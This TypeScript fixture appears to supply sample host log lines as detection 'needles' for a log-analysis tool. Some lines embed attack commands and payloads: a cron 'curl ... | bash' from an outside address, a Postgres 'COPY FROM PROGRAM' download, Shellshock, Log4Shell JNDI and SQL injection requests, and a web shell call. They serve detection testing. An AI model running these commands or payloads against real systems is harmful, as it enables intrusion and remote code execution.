import { rowsOf } from "./needle.ts";
import type { Needle } from "./needle.ts";

/** Log lines as a decoder sends them: signature ;; level ;; groups ;; comment ;; line without its time ;; mark. */
const LINES = `
// ssh and logins
5715 ;; 3 ;; syslog sshd authentication_success ;; sshd: authentication success. ;; web-3 sshd[9121]: Accepted password for root from 203.0.113.201 port 51044 ssh2 ;; 203.0.113.201
5715 ;; 3 ;; syslog sshd authentication_success ;; sshd: authentication success. ;; web-3 sshd[9122]: Accepted publickey for deploy from 198.51.100.71 port 40022 ssh2: ED25519 SHA256:zzQ ;; 198.51.100.71
5720 ;; 10 ;; syslog sshd authentication_failures ;; sshd: Multiple authentication failures. ;; web-3 sshd[9124]: error: maximum authentication attempts exceeded for svc_deploy from 203.0.113.203 port 22011 ssh2 [preauth] ;; svc_deploy
1002 ;; 2 ;; syslog errors ;; Unknown problem somewhere in the system. ;; web-3 sshd[911]: error: Hm, kex protocol error: type 20 seq 2 [preauth] from 203.0.113.204 ;; 203.0.113.204
5501 ;; 3 ;; pam syslog authentication_success ;; PAM: Login session opened. ;; web-3 su: pam_unix(su-l:session): session opened for user root by www-data(uid=33) ;; by www-data
5501 ;; 3 ;; pam syslog authentication_success ;; PAM: Login session opened. ;; web-3 sshd[9130]: pam_unix(sshd:session): session opened for user games by (uid=0) ;; games
5303 ;; 3 ;; syslog su authentication_success ;; User successfully changed UID to root. ;; web-3 su[4411]: + /dev/pts/3 nagios:root ;; nagios:root
5301 ;; 5 ;; syslog su authentication_failed ;; User missed the password to change UID. ;; web-3 su[4412]: FAILED SU (to root) tomcat on pts/1 ;; tomcat
5401 ;; 5 ;; syslog sudo ;; Failed attempt to run sudo. ;; web-3 sudo: intern7 : user NOT in sudoers ; TTY=pts/2 ; PWD=/home/intern7 ; USER=root ; COMMAND=/bin/bash ;; intern7
5403 ;; 4 ;; syslog sudo ;; First time user executed sudo. ;; web-3 sudo: deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/vim /etc/sudoers ;; /etc/sudoers
5402 ;; 3 ;; syslog sudo ;; Successful sudo to ROOT executed. ;; web-3 sudo: deploy : TTY=pts/0 ; PWD=/srv/app ; USER=root ; COMMAND=/bin/cp /tmp/ls /bin/ls ;; /tmp/ls
5402 ;; 3 ;; syslog sudo ;; Successful sudo to ROOT executed. ;; web-3 sudo: www-data : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/sh ;; /var/www
5402 ;; 3 ;; syslog sudo ;; Successful sudo to ROOT executed. ;; web-3 sudo: deploy : TTY=pts/0 ; PWD=/srv/app ; USER=root ; COMMAND=/usr/bin/tcpdump -w /tmp/x.pcap ;; x.pcap
// accounts
5902 ;; 8 ;; syslog adduser ;; New user added to the system. ;; web-3 useradd[7001]: new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash ;; sysupd
5901 ;; 8 ;; syslog adduser ;; New group added to the system. ;; web-3 groupadd[7002]: new group: name=wheel2, GID=1099 ;; wheel2
5904 ;; 8 ;; syslog ;; Information from the user was changed. ;; web-3 usermod[7003]: add 'ftpuser9' to group 'sudo' ;; ftpuser9
5555 ;; 3 ;; syslog pam ;; User changed password. ;; web-3 passwd[7004]: pam_unix(passwd:chauthtok): password changed for daemon ;; for daemon
5903 ;; 5 ;; syslog ;; Group (or user) deleted from the system. ;; web-3 userdel[7005]: delete user 'auditor' ;; auditor
5906 ;; 3 ;; syslog ;; Information from the user was changed. ;; web-3 chsh[7006]: changed user 'www-data' shell to '/bin/bash' ;; changed user
// kernel and system
5104 ;; 8 ;; syslog linuxkernel promisc ;; Interface entered in promiscuous(sniffing) mode. ;; web-3 kernel: device eth0 entered promiscuous mode ;; promiscuous
1002 ;; 2 ;; syslog errors ;; Unknown problem somewhere in the system. ;; web-3 kernel: reptile: loading out-of-tree module taints kernel. ;; reptile
1002 ;; 2 ;; syslog errors ;; Unknown problem somewhere in the system. ;; web-3 kernel: [ 8812.44] polkit-agent-he[2211]: segfault at 41414141 ip 00007f error 14 ;; polkit-agent
1002 ;; 2 ;; syslog errors ;; Unknown problem somewhere in the system. ;; web-3 kernel: usb-storage 2-1:1.0: USB Mass Storage device detected ;; Mass Storage
1002 ;; 2 ;; syslog errors ;; Unknown problem somewhere in the system. ;; web-3 kernel: audit: audit_enabled=0 old=1 auid=1000 ses=4 res=1 ;; audit_enabled=0
1002 ;; 2 ;; syslog errors ;; Unknown problem somewhere in the system. ;; web-3 auditd[612]: The audit daemon is exiting. ;; audit daemon
1002 ;; 2 ;; syslog errors ;; Unknown problem somewhere in the system. ;; web-3 rsyslogd: [origin software="rsyslogd"] exiting on signal 15. ;; exiting on signal 15
1002 ;; 2 ;; syslog errors ;; Unknown problem somewhere in the system. ;; web-3 systemd[1]: Stopped CrowdStrike Falcon Sensor. ;; Falcon
1002 ;; 2 ;; syslog errors ;; Unknown problem somewhere in the system. ;; web-3 systemd[1]: Started Remote Support Helper rshlpd.service. ;; rshlpd
1002 ;; 2 ;; syslog errors ;; Unknown problem somewhere in the system. ;; web-3 systemd[1]: Stopped firewalld - dynamic firewall daemon. ;; firewalld
5113 ;; 7 ;; syslog linuxkernel system_shutdown ;; System is shutting down. ;; web-3 systemd-logind[512]: System is powering down (hypervisor initiated shutdown by uid 33). ;; powering down
2932 ;; 7 ;; syslog yum config_changed ;; New Yum package installed. ;; web-3 yum[8111]: Installed: nmap-ncat-7.50-1.x86_64 ;; nmap-ncat
2902 ;; 7 ;; syslog dpkg config_changed ;; New dpkg (Debian Package) installed. ;; web-3 dpkg: status installed proxychains4:amd64 4.14-2 ;; proxychains4
2903 ;; 7 ;; syslog dpkg config_changed ;; Dpkg (Debian Package) removed. ;; web-3 dpkg: status removed auditd:amd64 1:2.8.5 ;; removed auditd
2834 ;; 5 ;; syslog cron ;; Crontab opened for editing. ;; web-3 crontab[8123]: (www-data) BEGIN EDIT (www-data) ;; BEGIN EDIT
2832 ;; 5 ;; syslog cron ;; Crontab entry changed. ;; web-3 crontab[8124]: (nobody) REPLACE (nobody) ;; (nobody)
2830 ;; 0 ;; syslog cron ;; Crontab rule group. ;; web-3 CRON[8125]: (root) CMD (curl -fsSL 203.0.113.210/i.sh|bash) ;; 203.0.113.210
1002 ;; 2 ;; syslog errors ;; Unknown problem somewhere in the system. ;; web-3 setroubleshoot: SELinux is preventing httpd from name_connect access on the tcp_socket port 4444 ;; name_connect
2501 ;; 5 ;; syslog access_control authentication_failed ;; User authentication failure. ;; web-3 vsftpd: pam_unix(vsftpd:auth): authentication failure; ruser=ceo rhost=203.0.113.211 ;; ruser=ceo
52002 ;; 3 ;; syslog apparmor ;; Apparmor DENIED ;; web-3 kernel: audit: type=1400 apparmor="DENIED" operation="exec" profile="/usr/sbin/mysqld" name="/bin/dash" ;; /bin/dash
// integrity checks of the decoder itself
550 ;; 7 ;; ossec syscheck ;; Integrity checksum changed. ;; ossec: Integrity checksum changed for: '/usr/sbin/sshd' Size changed from '876328' to '911220' ;; /usr/sbin/sshd
554 ;; 5 ;; ossec syscheck ;; File added to the system. ;; ossec: New file '/etc/cron.hourly/.kd' added to the file system. ;; .kd
553 ;; 7 ;; ossec syscheck ;; File deleted. ;; ossec: File '/etc/audit/rules.d/audit.rules' was deleted. Unable to retrieve checksum. ;; audit.rules
510 ;; 7 ;; ossec rootcheck ;; Host-based anomaly detection event (rootcheck). ;; ossec: Rootkit 'Adore' detected by the presence of file '/dev/.shit/red.tgz'. ;; Adore
510 ;; 7 ;; ossec rootcheck ;; Host-based anomaly detection event (rootcheck). ;; ossec: Process '4141' hidden from /proc. Possible kernel level rootkit. ;; hidden from /proc
// web, mail, database
31106 ;; 6 ;; web accesslog attack ;; A web attack returned code 200 (success). ;; 203.0.113.220 - - [03/Mar/2026:09:11:02 +0000] "GET /cgi-bin/status?x=() { :; }; /bin/id HTTP/1.1" 200 41 ;; 203.0.113.220
31103 ;; 6 ;; web accesslog attack sql_injection ;; SQL injection attempt. ;; 203.0.113.221 - - [03/Mar/2026:09:11:03 +0000] "GET /item.php?id=1+UNION+SELECT+user,pass+FROM+users-- HTTP/1.1" 200 9911 ;; UNION
31101 ;; 5 ;; web accesslog ;; Web server 400 error code. ;; 203.0.113.222 - - [03/Mar/2026:09:11:04 +0000] "POST /api/v1/totp/user-backup-code/../../license/keys-status/;python HTTP/1.1" 400 0 ;; keys-status
31100 ;; 0 ;; web accesslog ;; Access log messages grouped. ;; 203.0.113.223 - - [03/Mar/2026:09:11:05 +0000] "GET /x?q=\${jndi:ldap://203.0.113.223:1389/a} HTTP/1.1" 200 13 ;; jndi
31108 ;; 0 ;; web accesslog ;; Ignored URLs. ;; 203.0.113.224 - - [03/Mar/2026:09:11:06 +0000] "GET /uploads/shell.php?cmd=id HTTP/1.1" 200 54 ;; shell.php
50106 ;; 3 ;; mysql_log authentication_failed ;; Database authentication failure. ;; web-3 mysqld: Access denied for user 'root'@'203.0.113.225' (using password: YES) ;; 203.0.113.225
1002 ;; 2 ;; syslog errors ;; Unknown problem somewhere in the system. ;; web-3 postgres[900]: LOG: statement: COPY t FROM PROGRAM 'curl 203.0.113.226/p|sh' ;; FROM PROGRAM
3301 ;; 6 ;; syslog postfix spam ;; Attempt to use mail server as relay (client host rejected). ;; web-3 postfix/smtpd[991]: NOQUEUE: reject: RCPT from unknown[203.0.113.227]: 454 Relay access denied ;; Relay access
1002 ;; 2 ;; syslog errors ;; Unknown problem somewhere in the system. ;; web-3 dockerd[700]: msg="API listen on [::]:2375" ;; 2375
`;

/** Single telling log lines of hosts. */
export const MORE_LOG_NEEDLES: readonly Needle[] = rowsOf(LINES).map((row) => {
  const [sigid = "", level = "", groups = "", comment = "", line = "", mark = ""] = row;
  const group = groups.split(" ");
  const log = /^(?:ossec|\d)/.test(line) ? line : `Mar  3 10:11:12 ${line}`;
  return {
    platform: "logs",
    mark,
    fields: {
      event_type: "host",
      sigid: Number(sigid),
      level: Number(level),
      group,
      groups: group,
      comment,
      log,
    },
  };
});
